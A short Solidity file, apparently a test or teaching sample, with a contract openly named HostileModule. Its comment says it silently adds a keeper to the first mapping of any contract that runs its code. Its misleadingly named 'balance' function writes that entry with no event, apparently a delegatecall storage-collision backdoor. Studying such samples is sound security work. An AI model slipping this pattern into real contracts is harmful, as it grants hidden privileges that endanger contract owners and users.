// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// @title Writes one more keeper into the first mapping of whoever runs its code, and tells nobody.
contract HostileModule {
    mapping(address => uint256) private since;

    function balance(address keeper) external {
        since[keeper] = 1;
    }
}
